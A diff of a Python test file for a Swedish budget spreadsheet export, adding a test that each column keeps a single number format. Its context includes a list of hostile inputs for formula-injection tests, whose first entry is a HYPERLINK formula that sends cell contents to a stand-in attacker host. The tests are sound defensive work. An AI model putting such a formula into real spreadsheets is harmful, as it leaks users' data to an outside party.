@@ -25,6 +25,23 @@ def test_an_export_keeps_amounts_as_exact_numbers_with_headers_and_caption():
     assert workbook.sheetnames == ["Ramar- 2027", "Andra"]
 
 
+def test_a_column_has_one_number_format_whatever_its_values():
+    """A percentage column shows −2 and −5,33 alike; a kronor column with öre shows öre on
+    every row, one without whole kronor."""
+    response = xlsx_response("Format", [Sheet("Format", ["Nämnd", "Avvikelse (% av ram)",
+                                                         "Utfall (kr)", "Ram (kr)"], [
+        ["BUN", Decimal("-2"), Decimal("1250.50"), Decimal("100")],
+        ["SN", Decimal("-5.33"), Decimal("800"), Decimal("200.00")],
+        ["KS", None, Decimal("12"), Decimal("300")],
+    ])])
+    sheet = load_workbook(io.BytesIO(response.content))["Format"]
+    formats = {column: {sheet[f"{column}{row}"].number_format for row in (2, 3)}
+               for column in "BCD"}
+    assert formats == {"B": {"0.00"}, "C": {"#,##0.00"}, "D": {"#,##0"}}
+    assert sheet["C4"].number_format == "#,##0.00"
+    assert sheet["B2"].value == -2
+
+
 # --- A user's text is written as text, never as a formula -------------------------------------
 
 HOSTILE = ["=HYPERLINK(\"https://angripare.example/?\"&A1,\"Klicka här\")",
